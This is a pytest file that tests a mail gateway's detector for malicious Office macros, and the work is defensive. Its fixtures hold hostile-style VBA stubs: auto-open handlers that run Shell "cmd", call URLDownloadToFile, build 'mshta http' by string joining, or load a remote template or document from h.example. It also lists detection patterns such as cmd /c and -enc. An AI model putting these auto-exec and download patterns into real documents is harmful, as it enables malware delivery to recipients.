from __future__ import annotations

import pytest

from gateway.detect.base import Scope, Tally
from gateway.detect.macro import BEHAVIOUR, VBA, XLM, MacroDetector, begins, judge
from gateway.model.artifact import Artifact, ArtifactKind
from gateway.model.content import Observation, Sample
from gateway.model.finding import Finding, Severity
from gateway.model.transaction import Direction

SCOPE = Scope(Direction.INBOUND, "a@b.example", ("c@bank.example",), ("bank.example",))


def look(source: str, *seen: Observation, kind: str = VBA, id: int = 1, detector: MacroDetector | None = None) -> list[Finding]:
    artifact = Artifact(id, 0, ArtifactKind.MACRO, ("Module1",), detected_type=kind)
    return list((detector or MacroDetector(SCOPE)).look(Sample(artifact, source.encode(), observations=list(seen))))


def found(source: str) -> dict[str, Severity]:
    return {f.code: f.severity for f in look(source)}


@pytest.mark.parametrize("source", [
    'Sub AutoOpen()\nShell "cmd"\nEnd Sub', 'Private Sub Document_Open()\nCreateObject("WScript.Shell").Run x\nEnd Sub',
    'Sub Workbook_Open()\nURLDownloadToFile 0, u, f, 0, 0\nEnd Sub', 'Sub InkEdit1_GotFocus()\nGetObject("winmgmts:").Create x\nEnd Sub',
    'Sub Auto_Open()\nx = Chr(112) & Chr(111) & "wershell"\nEnd Sub', 'Sub MultiPage1_Layout(ByVal i)\nCallByName o, "r", 1\nEnd Sub',
    'Sub AUTOOPEN()\nx = "ms" & _\n "hta http"\nEnd Sub', 'Sub Document_Close()\nExecuteExcel4Macro "EXEC(1)"\nEnd Sub',
    'Sub Workbook_Open()\nSet x = GetObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}")\nEnd Sub',
    'Sub AutoOpen()\nActiveDocument.InlineShapes(1).OLEFormat.DoVerb\nEnd Sub', 'Sub AutoOpen()\nName "C:\\a.txt" As "C:\\a.exe"\nEnd Sub',
    'Sub AutoOpen()\nDocuments.Open FileName:="http://h.example/a.docm"\nEnd Sub', 'Sub Auto_Open()\nAddIns.Add(f).Installed = True\nEnd Sub',
    'Sub AutoOpen()\nActiveDocument.AttachedTemplate = "https://h.example/a.dotm"\nEnd Sub',
    'Sub AutoOpen()\nApplication.OrganizerCopy a, b, "M", 3\nEnd Sub', 'Sub Workbook_Open()\nSheet1.OLEObjects(1).Verb xlVerbOpen\nEnd Sub',
])
def test_starts_and_acts_is_critical(source: str) -> None:
    assert found(source)["MACRO-SUSPICIOUS"] is Severity.CRITICAL and "MACRO-AUTOEXEC" in found(source)


@pytest.mark.parametrize("source", [
    "Function Tax(x)\nTax = x * 5 / 100\nEnd Function", "Sub Format()\nRange(\"A1\").Font.Bold = True\nEnd Sub", "Sub 計算()\nMsgBox \"完成\"\nEnd Sub",
    "Sub Button1_Click()\n' Shell is not used here\nx = \"nutshell\"\nEnd Sub",
    'Sub A()\nWorkbooks.Open ThisWorkbook.Path & "\\rates.xlsx"\nEnd Sub', 'Sub A()\nActiveDocument.AttachedTemplate = "Normal"\nEnd Sub',
    'Sub A()\nSheets(1).Hyperlinks.Add Range("A1"), "https://h.example/"\nName a As b & ".bak"\nEnd Sub',
])
def test_harmless_macro_is_only_present(source: str) -> None:
    assert found(source) == {"MACRO-PRESENT": Severity.MEDIUM}


def test_starting_alone_and_acting_alone() -> None:
    assert found("Sub Workbook_Open()\nMsgBox 1\nEnd Sub") == {"MACRO-AUTOEXEC": Severity.MEDIUM, "MACRO-PRESENT": Severity.MEDIUM}
    assert found('Sub A()\nShell "x"\nEnd Sub')["MACRO-SUSPICIOUS"] is Severity.HIGH


def test_behaviour_split_over_modules_is_put_together() -> None:
    detector = MacroDetector(SCOPE)
    look("Sub AutoOpen()\nDoIt\nEnd Sub", id=1, detector=detector)
    look('Sub DoIt()\nShell "x"\nEnd Sub', id=2, detector=detector)
    assert [f.severity for f in detector.conclude(Tally())] == [Severity.CRITICAL]


def test_evidence_is_masked_and_hash_given() -> None:
    finding = next(f for f in look('Sub AutoOpen()\nShell "x A123456789 someone@bank.example"\nEnd Sub') if f.code == "MACRO-SUSPICIOUS")
    assert "A123456789" not in str(finding.evidence) and "someone" not in str(finding.evidence)
    assert finding.rule.startswith("sha256:") and len(finding.rule) == 71


def test_containers_sheets_and_votes() -> None:
    assert {f.code for f in look("", Observation("VBA-PROJECT", "1"), Observation("VBA-STOMPED", "x"), kind="x")} == {"MACRO-PRESENT", "MACRO-STOMPED"}
    assert [(f.code, f.severity) for f in look('"cmd" EXEC()', Observation("XLM-CALL", "EXEC"), kind=XLM)] == [("MACRO-XLM", Severity.CRITICAL)]
    assert [(f.code, f.severity) for f in look("1", kind=XLM)] == [("MACRO-XLM", Severity.HIGH)]
    assert "MACRO-SUSPICIOUS" in {f.code for f in look("Sub A()\nEnd Sub", Observation("VBA-MRAPTOR", "A-X"))}
    assert look("text", kind="text/plain") == []


def test_what_a_word_begins_with_is_in_all_that_it_matches() -> None:
    assert [begins(word) for word in (r"shell\$", r"execve?", r"environ\$?", r"cmd(?:\.exe)? ?/[ck]", r"put #\w+", r"\.exec", r"-e(?:nc)")] == [
        "shell$", "execv", "environ", "cmd", "put #", ".exec", "-e"]
    assert all(len(begin) > 1 for _, sign in BEHAVIOUR for begin in sign.begins)


def test_lines_are_looked_at_no_further_than_they_are_shown() -> None:
    made = judge("".join(f'Shell "cmd /c {i}"\n' for i in range(50)) + "URLDownloadToFile 0\n")
    assert made.shown["runs"] == [f'Shell "cmd /c {i}"' for i in range(4)] and "downloads" in made


def test_obfuscation_is_seen() -> None:
    assert "hides" in judge('x = "' + "ab12" * 40 + '"') and "hides" in judge("x = " + "y" * 5000)
    assert "hides" in judge("a = Array(" + "104," * 60 + "1)")


def test_large_source_is_quick() -> None:
    assert judge(('x = "' + "chr(" * 50 + '" & "a" & "b"\n') * 2000) is not None
